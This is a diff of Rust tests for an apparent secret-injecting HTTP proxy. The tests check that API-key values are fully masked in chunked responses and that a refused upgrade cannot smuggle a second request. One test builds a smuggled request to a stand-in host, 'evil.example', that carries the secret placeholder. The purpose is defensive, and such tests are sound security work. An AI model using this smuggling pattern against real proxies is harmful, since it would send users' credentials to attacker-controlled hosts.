@@ -231,16 +231,54 @@ fn reflections_in_heads_pipelined_continued_and_head_answers_are_masked() {
 #[test]
 fn a_value_split_across_chunks_is_masked() {
     let s = setup();
-    let out = s.agent(
-        &[],
-        HOST,
-        &s.head(
-            "GET /chunked",
-            "x-api-key: {PH}\\r\\nConnection: close\\r\\n",
-        ),
+    let request = s.head(
+        "GET /chunked",
+        "x-api-key: {PH}\\r\\nConnection: close\\r\\n",
     );
+    let out = s.agent(&[], HOST, &request);
     assert!(out.contains("JOINED: HTTP/1.1 200"), "{out}");
     s.masked("an answer in chunks", &out);
+    // Values of 36 to 49 bytes, echoed after "echo " in chunks of 7: the
+    // value's end falls at every place in a chunk. Not one byte of any
+    // comes back: the whole value starred, no run of its bytes anywhere
+    // (a 40-byte value came back with its last 10 bytes).
+    let hex = format!(
+        "{}{}",
+        uuid::Uuid::new_v4().simple(),
+        uuid::Uuid::new_v4().simple()
+    );
+    for len in 36..50 {
+        let value = format!("sk-test/{}+x", &hex[..len - 10]);
+        set_secret(&s.env, HOST, "x-api-key", &value);
+        let out = s.agent(&[], HOST, &request);
+        let stars = "*".repeat(value.len());
+        assert!(
+            out.contains("JOINED: HTTP/1.1 200") && out.contains(&format!("echo {stars}\\r\\n")),
+            "a {len}-byte value came back in part: {out}"
+        );
+        for run in value.as_bytes().windows(6) {
+            let run = std::str::from_utf8(run).unwrap();
+            assert!(!out.contains(run), "'{run}' of the value came back: {out}");
+        }
+    }
+}
+
+#[test]
+fn an_upgrade_the_host_does_not_accept_leaves_the_connection_checked() {
+    let s = setup();
+    // The host answers 200, not 101: the agent's next request, for another
+    // host, must not pass as the raw bytes of an upgraded connection.
+    let upgrade = "x-api-key: {PH}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n";
+    let evil = "GET /evil HTTP/1.1\\r\\nHost: evil.example\\r\\nx-api-key: {PH}\\r\\n\\r\\n";
+    let out = s.agent(&[], HOST, &format!("{}{evil}", s.head("GET /", upgrade)));
+    assert!(raw(&out).starts_with("HTTP/1.1 200"), "{out}");
+    s.masked("an upgrade answered 200", &out);
+    let got = s.origin.requests();
+    assert!(
+        got.iter().all(|r| r["path"] != "/evil"),
+        "it reached the host: {got:#?}"
+    );
+    assert_eq!(s.with_value().len(), 1, "{got:#?}");
 }
 
 #[test]
